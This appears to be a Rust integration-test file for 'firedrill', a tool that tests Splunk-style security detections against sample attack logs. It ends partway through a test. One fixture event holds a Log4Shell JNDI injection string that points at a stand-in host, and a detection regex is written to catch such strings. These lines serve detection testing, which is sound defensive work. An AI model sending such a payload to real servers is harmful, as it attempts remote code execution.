fn from_datamodel_reads_the_datasets_events() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let data = dir.join("eve.json");
    std::fs::write(
        &data,
        concat!(
            r#"{"timestamp":"2024-03-05T10:00:00.000000+0000","event_type":"http","src_ip":"10.0.0.5","dest_ip":"10.0.0.9","http":{"url":"/?x=${jndi:ldap://evil.example/a}","http_method":"GET"}}"#,
            "\n",
            r#"{"timestamp":"2024-03-05T10:00:01.000000+0000","event_type":"http","src_ip":"10.0.0.6","dest_ip":"10.0.0.9","http":{"url":"/index.html","http_method":"GET"}}"#,
            "\n",
            r#"{"timestamp":"2024-03-05T10:00:02.000000+0000","event_type":"dns","src_ip":"10.0.0.7","dns":{"rrname":"jndi:ldap://x"}}"#,
            "\n",
        ),
    )
    .unwrap();
    let det = dir.join("log4shell.yml");
    std::fs::write(
        &det,
        r#"name: From Datamodel Web
id: 0e6f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b
version: 1
date: '2024-03-05'
author: firedrill tests
status: production
type: TTP
description: Reads the Web dataset's events.
search: '| from datamodel Web.Web | regex _raw="[jJnNdDiI]{4}(\:|\%3A|\/|\%2F)\w+" | stats count by src, http_method, action'
how_to_implement: none
known_false_positives: none
references: []
tags:
  analytic_story: [Log4Shell]
  asset_type: Web Server
  confidence: 80
  impact: 80
  message: JNDI from $src$
  mitre_attack_id: [T1190]
  observable:
  - name: src
    type: IP Address
    role: [Attacker]
  product: [Splunk Enterprise]
  security_domain: network
tests:
- name: True Positive Test
  attack_data:
  - data: https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/x/eve.json
    sourcetype: suricata
    source: suricata
"#,
    )
    .unwrap();
    let out = firedrill()
        .args(["run"])
        .arg(&det)
        .args(["--dataset"])
        .arg(&data)
        .args(["--sourcetype", "suricata", "--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let d = &json["detections"][0];
    assert_eq!(d["status"], "pass", "{d}");
    assert_eq!(d["tests"][0]["results"], 1, "{d}");
    // Not first, it is an error with a caret, not a silent empty result.
    let bad = dir.join("bad.yml");
    std::fs::write(
        &bad,
        std::fs::read_to_string(&det).unwrap().replace(
            "'| from datamodel Web.Web |",
            "'search * | from datamodel Web.Web |",
        ),
    )
    .unwrap();
    let out = firedrill()
        .arg("run")
        .arg(&bad)
        .args(["--dataset"])
        .arg(&data)
        .args(["--sourcetype", "suricata"])
        .output()
        .unwrap();
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("first command"), "{text}");
}

/// `firedrill search`: an ad-hoc search, its rows as a table, JSON lines or CSV.
#[test]
fn search_prints_the_rows_of_an_ad_hoc_search() {
    let out = firedrill()
        .args(["search", "| stats count by EventCode Computer", SYSMON])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0].split_whitespace().collect::<Vec<_>>(),
        ["EventCode", "Computer", "count"]
    );
    assert_eq!(lines.len(), 3, "{text}");
    assert!(lines[2].ends_with("4"), "{text}");
    // JSON: one object per row; multivalue as arrays; _time as ISO 8601.
    let out = firedrill()
        .args([
            "search",
            "| makeresults count=2 | eval v=split(\"a,b\", \",\")",
            "--format",
            "json",
        ])
        .output()
        .unwrap();
    let rows: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["v"], serde_json::json!(["a", "b"]));
    assert!(rows[0]["_time"].as_str().unwrap().ends_with('Z'));
    // CSV with the table's column order.
    let out = firedrill()
        .args([
            "search",
            "EventCode=1 | head 1 | table Computer EventCode",
            SYSMON,
            "--format",
            "csv",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(text.starts_with("Computer,EventCode\n"), "{text}");
    // No rows: exit 1, like grep. Unsupported: exit 2 with a caret.
    firedrill()
        .args(["search", "EventCode=99999", SYSMON])
        .assert()
        .code(1);
    firedrill()
        .args(["search", "| stats frobnicate(x)"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("^"));
    // Macros come from --content.
    firedrill()
        .args(["search", "`nosuchmacro` | stats count"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--content"));
}

/// `run --show-results N`: each test's first N rows under its verdict, every field;
/// `rows` in the JSON report; nothing extra without the flag.
#[test]
fn show_results_prints_the_rows_under_each_verdict() {
    let base = [
        "run",
        "examples/detections/endpoint/example_comsvcs_minidump.yml",
        "--data",
        "examples/attack_data",
        "--expectations",
        "examples/expectations",
        "--offline",
    ];
    let out = firedrill()
        .args(base)
        .args(["--show-results", "1"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(text.matches("row 1:").count(), 1, "{text}");
    assert!(!text.contains("row 2:"), "{text}");
    let out = firedrill()
        .args(base)
        .args(["--show-results", "--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rows = json["detections"][0]["tests"][0]["rows"]
        .as_array()
        .unwrap();
    assert_eq!(rows.len(), 2);
    // Every field of the row, not only what the verdict reads.
    assert!(rows[0].get("firstTime").is_some(), "{rows:?}");
    assert!(rows[0].get("count").is_some(), "{rows:?}");
    let out = firedrill()
        .args(base)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(json["detections"][0]["tests"][0].get("rows").is_none());
}

fn git(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "user.name=firedrill",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `--changed-since REF`: a detection is run when its file, a macro it uses (through
/// another macro too), or a lookup it names changed; each is printed with why.
#[test]
fn changed_since_selects_what_a_change_touches() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path();
    for dir in ["detections", "macros", "lookups"] {
        std::fs::create_dir_all(repo.join(dir)).unwrap();
    }
    for m in std::fs::read_dir("examples/macros").unwrap() {
        let m = m.unwrap().path();
        std::fs::copy(&m, repo.join("macros").join(m.file_name().unwrap())).unwrap();
    }
    for d in [
        "example_comsvcs_minidump.yml",
        "example_renamed_rundll32.yml",
    ] {
        std::fs::copy(
            format!("examples/detections/endpoint/{d}"),
            repo.join("detections").join(d),
        )
        .unwrap();
    }
    // A macro used only through another one, and a detection that names a lookup.
    std::fs::write(
        repo.join("macros/inner.yml"),
        "name: inner\ndefinition: EventCode=1\ndescription: x\n",
    )
    .unwrap();
    std::fs::write(
        repo.join("macros/outer.yml"),
        "name: outer\ndefinition: '`inner` Image=*'\ndescription: x\n",
    )
    .unwrap();
    std::fs::write(
        repo.join("lookups/bad_hosts.yml"),
        "name: bad_hosts\nfilename: bad_hosts.csv\ndescription: x\n",
    )
    .unwrap();
    std::fs::write(repo.join("lookups/bad_hosts.csv"), "host,bad\nh1,yes\n").unwrap();
    let lookup_det =
        std::fs::read_to_string("examples/detections/endpoint/example_renamed_rundll32.yml")
            .unwrap()
            .replace("name: Example - Renamed Rundll32", "name: Uses A Lookup")
            .replace(
                "id: 6f0d3c9e-1b2a-4c5d-8e7f-a1b2c3d4e502",
                "id: 6f0d3c9e-1b2a-4c5d-8e7f-a1b2c3d4e599",
            );
    let lookup_det = lookup_det.replacen(
        "`example_renamed_rundll32_filter`'",
        "lookup bad_hosts host OUTPUT bad | `example_renamed_rundll32_filter`'",
        1,
    );
    std::fs::write(repo.join("detections/uses_lookup.yml"), &lookup_det).unwrap();
    let macro_det = lookup_det
        .replace("name: Uses A Lookup", "name: Uses A Macro")
        .replace("e599", "e598")
        .replace("lookup bad_hosts host OUTPUT bad |", "search `outer` |");
    std::fs::write(repo.join("detections/uses_macro.yml"), &macro_det).unwrap();
    git(repo, &["init", "-q"]);
    git(repo, &["add", "."]);
    git(repo, &["commit", "-q", "-m", "content"]);
    let selected = |rev: &str| -> String {
        let out = firedrill()
            .arg("run")
            .arg(repo)
            .args(["--changed-since", rev, "--offline", "--data"])
            .arg(repo.join("no-data"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stderr).to_string()
    };
    let none = selected("HEAD");
    assert!(none.contains("0 of 4 detections touched"), "{none}");
    // A change to the inner macro reaches the detection through the outer one.
    std::fs::write(
        repo.join("macros/inner.yml"),
        "name: inner\ndefinition: EventCode=10\ndescription: x\n",
    )
    .unwrap();
    let text = selected("HEAD");
    assert!(text.contains("1 of 4 detections touched"), "{text}");
    assert!(
        text.contains("Uses A Macro: it uses macro `inner`"),
        "{text}"
    );
    git(repo, &["commit", "-q", "-am", "inner macro"]);
    // The lookup's CSV, and a detection's own file.
    std::fs::write(repo.join("lookups/bad_hosts.csv"), "host,bad\nh2,yes\n").unwrap();
    let det = repo.join("detections/example_comsvcs_minidump.yml");
    let body = std::fs::read_to_string(&det)
        .unwrap()
        .replace("version: 1", "version: 2");
    std::fs::write(&det, body).unwrap();
    let text = selected("HEAD");
    assert!(text.contains("2 of 4 detections touched"), "{text}");
    assert!(
        text.contains("Uses A Lookup: it uses lookup `bad_hosts`"),
        "{text}"
    );
    assert!(
        text.contains("Rundll32 Comsvcs MiniDump: its file changed"),
        "{text}"
    );
    // Since the first commit: all three changes.
    assert!(selected("HEAD~1").contains("3 of 4 detections touched"));
    git(repo, &["commit", "-q", "-am", "lookup and detection"]);
    // A deleted macro file: the detection that used it is selected (it no longer
    // expands); a file with a non-ASCII name is seen as it is.
    std::fs::remove_file(repo.join("macros/outer.yml")).unwrap();
    let text = selected("HEAD");
    assert!(text.contains("1 of 4 detections touched"), "{text}");
    assert!(
        text.contains("Uses A Macro: it uses macro `outer`, whose file"),
        "{text}"
    );
    git(repo, &["checkout", "-q", "--", "macros/outer.yml"]);
    let accented = repo.join("detections/détection_copiée.yml");
    std::fs::write(
        &accented,
        macro_det
            .replace("name: Uses A Macro", "name: Copied")
            .replace("e598", "e597"),
    )
    .unwrap();
    let text = selected("HEAD");
    assert!(text.contains("Copied: its file changed"), "{text}");
    std::fs::remove_file(&accented).unwrap();
    // A local dataset is read from --data, as the run reads it.
    let data = repo.join("data");
    std::fs::create_dir_all(data.join("local")).unwrap();
    std::fs::write(data.join("local/events.log"), "x\n").unwrap();
    let local_det = macro_det
        .replace("name: Uses A Macro", "name: Local Data")
        .replace("e598", "e596");
    let local_det = local_det.replacen(
        "https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1003.001/firedrill_example/windows-sysmon.log",
        "local/events.log",
        1,
    );
    assert!(local_det.contains("data: local/events.log"), "{local_det}");
    std::fs::write(repo.join("detections/local_data.yml"), &local_det).unwrap();
    git(repo, &["add", "."]);
    git(repo, &["commit", "-q", "-m", "local data"]);
    std::fs::write(data.join("local/events.log"), "y\n").unwrap();
    let out = firedrill()
        .arg("run")
        .arg(repo)
        .args(["--changed-since", "HEAD", "--offline", "--data"])
        .arg(&data)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("Local Data: its dataset local/events.log changed"),
        "{text}"
    );
    // A bad revision is an error naming it.
    let out = firedrill()
        .arg("run")
        .arg(repo)
        .args(["--changed-since", "no-such-ref", "--offline"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no-such-ref"));
}

/// In GitHub Actions a failing detection is an `::error` annotation at its `search:`
/// line; `--quiet` prints only what did not pass.
#[test]
fn github_annotations_and_quiet() {
    let (_tmp, det) = workdir();
    let empty = _tmp.path().join("no-data");
    let out = firedrill()
        .arg("run")
        .arg(&det)
        .args(["--offline", "--quiet", "--data"])
        .arg(&empty)
        .env("GITHUB_ACTIONS", "true")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let line = std::fs::read_to_string(&det)
        .unwrap()
        .lines()
        .position(|l| l.starts_with("search:"))
        .unwrap()
        + 1;
    let want =
        format!(",line={line},title=firedrill error%3A Example - Rundll32 Comsvcs MiniDump::");
    assert!(
        text.contains("::error file=") && text.contains(&want),
        "{text}"
    );
    // Without GITHUB_ACTIONS, no annotation; --quiet leaves out passing detections.
    let out = firedrill()
        .args([
            "run",
            "examples",
            "--data",
            "examples/attack_data",
            "--expectations",
            "examples/expectations",
            "--offline",
            "--quiet",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        !text.contains("::error") && !text.contains("PASS "),
        "{text}"
    );
    assert!(text.contains("4 detections: 4 passed"), "{text}");
}

/// A negative test: an expectation with `must_not_fire` passes only when the
/// detection returns nothing on that test's (benign) data.
#[test]
fn must_not_fire_is_a_negative_test() {
    let tmp = tempfile::tempdir().unwrap();
    let det = tmp.path().join("renamed.yml");
    let benign = "- name: Benign Baseline\n  attack_data:\n  - data: https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1003.001/firedrill_example/windows-security.log\n    source: XmlWinEventLog:Security\n    sourcetype: XmlWinEventLog\n";
    let body = std::fs::read_to_string("examples/detections/endpoint/example_renamed_rundll32.yml")
        .unwrap();
    std::fs::write(&det, format!("{}\n{benign}", body.trim_end())).unwrap();
    let exp = tmp.path().join("expectations");
    std::fs::create_dir_all(&exp).unwrap();
    let write_exp = |test: &str| {
        std::fs::write(
            exp.join("benign.yml"),
            format!("detection: Example - Renamed Rundll32\ntest: {test}\nmust_not_fire: true\n"),
        )
        .unwrap();
    };
    let run = || -> (i32, serde_json::Value) {
        let out = firedrill()
            .arg("run")
            .arg(&det)
            .args([
                "--data",
                "examples/attack_data",
                "--offline",
                "--format",
                "json",
                "--content",
                "examples",
                "--expectations",
            ])
            .arg(&exp)
            .output()
            .unwrap();
        (
            out.status.code().unwrap(),
            serde_json::from_slice(&out.stdout).unwrap(),
        )
    };
    write_exp("Benign Baseline");
    let (code, json) = run();
    let tests = json["detections"][0]["tests"].as_array().unwrap();
    assert_eq!(code, 0, "{json}");
    assert_eq!(tests.len(), 2);
    assert!(tests.iter().all(|t| t["status"] == "pass"), "{tests:?}");
    // Marked on the data it does fire on, it fails, saying so.
    write_exp("True Positive Test");
    let (code, json) = run();
    assert_eq!(code, 1);
    let t = &json["detections"][0]["tests"][0];
    assert_eq!(t["status"], "fail");
    assert!(
        t["reason"].as_str().unwrap().contains("must not fire"),
        "{t}"
    );
}

/// `--shard K/N` splits the detections; `merge` of the shards' reports equals the
/// unsharded run (same detections, statuses, results, reasons and counts).
#[test]
fn shards_merge_into_the_unsharded_run() {
    let tmp = tempfile::tempdir().unwrap();
    let base = [
        "run",
        "examples",
        "--data",
        "examples/attack_data",
        "--expectations",
        "examples/expectations",
        "--offline",
        "--format",
        "json",
    ];
    let run = |extra: &[&str]| -> serde_json::Value {
        let out = firedrill().args(base).args(extra).output().unwrap();
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let whole_yml = tmp.path().join("whole.yml");
    let whole = run(&["--summary-yml", whole_yml.to_str().unwrap()]);
    let mut files = Vec::new();
    let mut sizes = Vec::new();
    for k in 1..=2 {
        let yml = tmp.path().join(format!("shard{k}.yml"));
        let r = run(&[
            "--shard",
            &format!("{k}/2"),
            "--summary-yml",
            yml.to_str().unwrap(),
        ]);
        sizes.push(r["detections"].as_array().unwrap().len());
        let f = tmp.path().join(format!("shard{k}.json"));
        std::fs::write(&f, r.to_string()).unwrap();
        files.push(f);
        files.push(yml);
    }
    assert_eq!(sizes, [2, 2], "balanced");
    let junit = tmp.path().join("junit.xml");
    let merged_yml = tmp.path().join("test_results/summary.yml");
    let out = firedrill()
        .arg("merge")
        .args(&files)
        .args(["--format", "json", "--junit"])
        .arg(&junit)
        .arg("--summary-yml")
        .arg(&merged_yml)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let merged: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let key = |r: &serde_json::Value| -> Vec<String> {
        let mut v: Vec<String> = r["detections"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| {
                format!(
                    "{}|{}|{}|{}",
                    d["name"], d["status"], d["results"], d["reason"]
                )
            })
            .collect();
        v.sort();
        v
    };
    assert_eq!(key(&merged), key(&whole));
    for k in ["total", "pass", "fail", "error", "skip"] {
        assert_eq!(merged["summary"][k], whole["summary"][k], "{k}");
    }
    let xml = std::fs::read_to_string(&junit).unwrap();
    assert_eq!(xml.matches("<testcase").count(), 4, "{xml}");
    // The merged summary.yml is the unsharded run's (but for the seconds taken).
    let yml = |p: &Path| -> serde_yaml_ng::Value {
        serde_yaml_ng::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
    };
    let (m, w) = (yml(&merged_yml), yml(&whole_yml));
    assert_eq!(m["summary"], w["summary"]);
    assert_eq!(m["percent_complete"], w["percent_complete"]);
    let names = |v: &serde_yaml_ng::Value, list: &str| -> Vec<String> {
        v[list]
            .as_sequence()
            .unwrap()
            .iter()
            .map(|e| {
                format!(
                    "{:?}|{:?}|{:?}",
                    e["name"],
                    e["status"],
                    e["tests"].as_sequence().map(|t| t.len())
                )
            })
            .collect()
    };
    for list in [
        "tested_detections",
        "skipped_detections",
        "untested_detections",
    ] {
        assert_eq!(names(&m, list), names(&w, list), "{list}");
    }
    // summary.yml inputs without --summary-yml, and the reverse, are usage errors.
    firedrill().arg("merge").args(&files).assert().code(2);
    firedrill()
        .arg("merge")
        .arg(&files[0])
        .args(["--summary-yml", "x.yml"])
        .assert()
        .code(2);
    firedrill()
        .args(["run", "examples", "--shard", "3/2"])
        .assert()
        .code(2);
    firedrill()
        .arg("merge")
        .arg(tmp.path().join("nope.json"))
        .assert()
        .code(2);
}

/// `--bless` pins what the passing tests produced; a second run holds to it; a
/// known_failure mark is never overwritten.
#[test]
fn bless_writes_expectations_the_next_run_holds_to() {
    let tmp = tempfile::tempdir().unwrap();
    let exp = tmp.path().join("expectations");
    std::fs::create_dir_all(&exp).unwrap();
    std::fs::copy(
        "examples/expectations/example_renamed_rundll32.yml",
        exp.join("example_renamed_rundll32.yml"),
    )
    .unwrap();
    std::fs::write(exp.join("marked.yml"), "detection: Example Page - Comsvcs MiniDump from Process Auditing\nknown_failure: under review\n").unwrap();
    let run = |extra: &[&str]| {
        firedrill()
            .args([
                "run",
                "examples",
                "--data",
                "examples/attack_data",
                "--offline",
                "--expectations",
            ])
            .arg(&exp)
            .args(extra)
            .output()
            .unwrap()
    };
    let out = run(&["--bless"]);
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(err.contains("not blessed: Example Page - Comsvcs MiniDump from Process Auditing is marked known_failure"), "{err}");
    assert!(err.contains("blessed Example - Renamed Rundll32"), "{err}");
    // The existing file was updated in place; new ones were written for the others.
    let renamed = std::fs::read_to_string(exp.join("example_renamed_rundll32.yml")).unwrap();
    assert!(
        renamed.contains("results: 1") && renamed.contains("score: 35"),
        "{renamed}"
    );
    let new = std::fs::read_to_string(exp.join("example_rundll32_comsvcs_minidump.yml")).unwrap();
    assert!(
        new.contains("results: 2") && new.contains("review"),
        "{new}"
    );
    assert_eq!(
        std::fs::read_to_string(exp.join("marked.yml"))
            .unwrap()
            .matches("known_failure")
            .count(),
        1
    );
    // The next run holds to what was blessed (the marked one still fails: it passes).
    std::fs::remove_file(exp.join("marked.yml")).unwrap();
    let out = run(&["--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["summary"]["pass"], 4, "{json}");
}

/// Writes a detection over the `acme:web` access log of the add-on tests (its test
/// dataset `datasets/firedrill/acme/access.log`).
fn acme_web_detection(
    path: &std::path::Path,
    name: &str,
    id: &str,
    description: &str,
    search: &str,
) {
    std::fs::write(
        path,
        format!(
            r#"name: {name}
id: {id}
version: 1
date: '2024-03-05'
author: firedrill tests
status: production
type: TTP
description: {description}
search: '{search}'
how_to_implement: the TA-acme-web add-on
known_false_positives: none
references: []
tags:
  analytic_story: [Acme]
  asset_type: Web Server
  confidence: 80
  impact: 50
  message: Admin pages denied to $src$
  mitre_attack_id: [T1190]
  observable:
  - name: src
    type: IP Address
    role: [Attacker]
  product: [Splunk Enterprise]
  security_domain: network
tests:
- name: True Positive Test
  attack_data:
  - data: https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/firedrill/acme/access.log
    sourcetype: acme:web
    source: /var/log/acme/access.log
"#
        ),
    )
    .unwrap();
}

/// A user's own add-on (`--addons DIR`): a sourcetype firedrill has never heard of
/// gets its fields from a props.conf/transforms.conf written in the test, and a
/// detection over it fires — no rebuild. Without the add-on it does not.
#[test]
fn a_users_addon_gives_a_new_sourcetype_its_fields() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let app = dir.join("apps/TA-acme-web");
    std::fs::create_dir_all(app.join("default")).unwrap();
    std::fs::create_dir_all(app.join("local")).unwrap();
    std::fs::write(
        app.join("default/props.conf"),
        "# Acme web server access logs\n\
         [acme:web]\n\
         TIME_PREFIX = \\[\n\
         TIME_FORMAT = %d/%b/%Y:%H:%M:%S %z\n\
         EXTRACT-access = ^(?<src_ip>\\S+) \\S+ (?<user>\\S+) \\[[^\\]]+\\] \"(?<method>\\w+) (?<uri>\\S+) [^\"]*\" (?<status>\\d{3})\n\
         REPORT-agent = acme_agent\n\
         FIELDALIAS-src = src_ip AS src\n\
         EVAL-outcome = case(status>=500, \"error\", status>=400, \"denied\", true(), \"ok\")\n\
         EVAL-vendor_product = \"Acme Web\"\n\
         KV_MODE = xml\n",
    )
    .unwrap();
    std::fs::write(
        app.join("default/transforms.conf"),
        "[acme_agent]\nREGEX = \"(?<http_user_agent>[^\"]+)\"$\n",
    )
    .unwrap();
    // local/ outranks default/: denied is what a 401 or 403 is, here.
    std::fs::write(
        app.join("local/props.conf"),
        "[acme:web]\nEVAL-outcome = case(status==401 OR status==403, \"denied\", status>=500, \"error\", true(), \"ok\")\n",
    )
    .unwrap();
    let cache = dir.join("attack_data");
    let data = cache.join("datasets/firedrill/acme/access.log");
    std::fs::create_dir_all(data.parent().unwrap()).unwrap();
    std::fs::write(
        &data,
        concat!(
            "10.0.0.5 - alice [05/Mar/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 403 512 \"curl/8.1\"\n",
            "10.0.0.5 - alice [05/Mar/2024:10:00:01 +0000] \"GET /admin/users HTTP/1.1\" 401 512 \"curl/8.1\"\n",
            "10.0.0.6 - bob [05/Mar/2024:10:00:02 +0000] \"GET /index.html HTTP/1.1\" 200 1024 \"Mozilla/5.0\"\n",
            "10.0.0.7 - carol [05/Mar/2024:10:00:03 +0000] \"GET /admin HTTP/1.1\" 404 0 \"curl/8.1\"\n",
        ),
    )
    .unwrap();
    let det = dir.join("acme_admin_denied.yml");
    acme_web_detection(
        &det,
        "Acme Admin Access Denied Repeatedly",
        "6f0c7a4e-2b1d-4c3e-9f8a-7d6e5c4b3a21",
        "A client denied the admin pages twice or more.",
        r#"sourcetype="acme:web" outcome=denied uri="/admin*" | stats count min(_time) as firstTime values(http_user_agent) as agent values(vendor_product) as vendor_product by src | where count >= 2"#,
    );
    let run = |extra: &[&str]| {
        let out = firedrill()
            .arg("run")
            .arg(&det)
            .arg("--data")
            .arg(&cache)
            .args(["--offline", "--format", "json", "--show-results", "3"])
            .args(extra)
            .output()
            .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
        (
            out.status.code(),
            json,
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    let apps = dir.join("apps");
    let (code, json, stderr) = run(&["--addons", apps.to_str().unwrap()]);
    let d = &json["detections"][0];
    assert_eq!(d["status"], "pass", "{d}\n{stderr}");
    assert_eq!(code, Some(0));
    let t = &d["tests"][0];
    assert_eq!(t["results"], 1, "{t}");
    assert_eq!(t["rows"][0]["src"], "10.0.0.5", "{t}");
    assert_eq!(t["rows"][0]["agent"], "curl/8.1", "{t}");
    assert_eq!(t["rows"][0]["vendor_product"], "Acme Web", "{t}");
    // TIME_FORMAT gave the events their time (2024-03-05T10:00:00Z).
    assert_eq!(t["rows"][0]["firstTime"], "1709632800", "{t}");
    // KV_MODE = xml is not applied: said on stderr, pointing at `addons check`.
    assert!(stderr.contains("1 setting not applied"), "{stderr}");
    assert!(stderr.contains("firedrill addons check"), "{stderr}");
    // The same through FIREDRILL_ADDONS.
    let out = firedrill()
        .arg("run")
        .arg(&det)
        .arg("--data")
        .arg(&cache)
        .args(["--offline", "--format", "json"])
        .env("FIREDRILL_ADDONS", &apps)
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["detections"][0]["status"], "pass", "{json}");
    // Without the add-on the fields are not there, and the detection does not fire.
    let (code, json, _) = run(&[]);
    assert_eq!(json["detections"][0]["status"], "fail", "{json}");
    assert_eq!(code, Some(1));
    // `addons check` lists what is not applied, with file and line.
    let out = firedrill()
        .args(["addons", "check"])
        .arg(&apps)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("TA-acme-web/default/props.conf:10: [acme:web] KV_MODE: "),
        "{text}"
    );
    assert!(
        text.contains("3 files, 1 stanza applied, 1 setting not applied"),
        "{text}"
    );
    // `search` and `coverage` take the add-on too.
    let out = firedrill()
        .args([
            "search",
            "sourcetype=acme:web | stats count by outcome",
            "--sourcetype",
            "acme:web",
            "--format",
            "csv",
        ])
        .arg(&data)
        .arg("--addons")
        .arg(&app)
        .output()
        .unwrap();
    let csv = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        csv,
        "outcome,count\ndenied,2\nok,2\n",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = firedrill()
        .args(["coverage", "--format", "json"])
        .arg(&det)
        .arg("--addons")
        .arg(&app)
        .output()
        .unwrap();
    let cov: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let from = cov["detections"][0]["fields_from"]["acme:web"]
        .as_str()
        .unwrap();
    assert!(from.ends_with("TA-acme-web/local/props.conf"), "{from}");
    assert_eq!(cov["detections"][0]["data_covered"], true);
    // A broken add-on stops the run with file and line.
    std::fs::write(
        app.join("local/props.conf"),
        "[acme:web]\nEXTRACT-x = (?<x>[\n",
    )
    .unwrap();
    let (code, _, stderr) = {
        let out = firedrill()
            .arg("run")
            .arg(&det)
            .arg("--data")
            .arg(&cache)
            .args(["--offline", "--addons"])
            .arg(&apps)
            .output()
            .unwrap();
        (
            out.status.code(),
            (),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains("TA-acme-web/local/props.conf:2: EXTRACT-x: "),
        "{stderr}"
    );
}

/// A user's own data model (`data/models/*.json` with `eventtypes.conf` and
/// `tags.conf`): a `tstats` detection over a dataset of it, and over its child, fires
/// on a sourcetype firedrill has never heard of; coverage names the model's file.
#[test]
fn a_users_data_model_feeds_tstats() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let app = dir.join("apps/TA-acme-web");
    let write = |rel: &str, text: &str| {
        let p = app.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    write(
        "default/props.conf",
        "[acme:web]\n\
         EXTRACT-access = ^(?<src>\\S+) (?<uri>\\S+) (?<status>\\d{3})$\n",
    );
    write(
        "default/eventtypes.conf",
        "[acme_access]\nsearch = sourcetype=acme:web\n\n\
         [acme_denied]\nsearch = sourcetype=acme:web status IN (401, 403)\n",
    );
    write(
        "default/tags.conf",
        "[eventtype=acme_access]\nweb = enabled\n\n[eventtype=acme_denied]\ndenied = enabled\n",
    );
    write(
        "default/data/models/Acme_Web.json",
        r#"{"modelName": "Acme_Web", "objects": [
  {"objectName": "Access", "parentName": "BaseEvent",
   "constraints": [{"search": "tag=web"}],
   "fields": [{"fieldName": "src"}, {"fieldName": "uri"}],
   "calculations": [{"calculationType": "Eval", "outputFields": [{"fieldName": "area"}],
     "expression": "if(like(uri, \"/admin%\"), \"admin\", \"public\")"}]},
  {"objectName": "Denied", "parentName": "Access",
   "constraints": [{"search": "tag=denied"}],
   "fields": [{"fieldName": "status"}]}
]}"#,
    );
    let cache = dir.join("attack_data");
    let data = cache.join("datasets/firedrill/acme/access.log");
    std::fs::create_dir_all(data.parent().unwrap()).unwrap();
    std::fs::write(
        &data,
        "10.0.0.5 /admin 403\n10.0.0.5 /admin/users 401\n10.0.0.6 /index.html 200\n\
         10.0.0.7 /admin 200\n10.0.0.8 /shop 403\n",
    )
    .unwrap();
    let detection = |name: &str, search: &str| {
        let det = dir.join(format!("{name}.yml"));
        let id = format!("6f0c7a4e-2b1d-4c3e-9f8a-7d6e5c4b3a2{}", name.len() % 10);
        acme_web_detection(&det, name, &id, "Admin pages denied.", search);
        det
    };
    let denied = detection(
        "Acme Admin Denied",
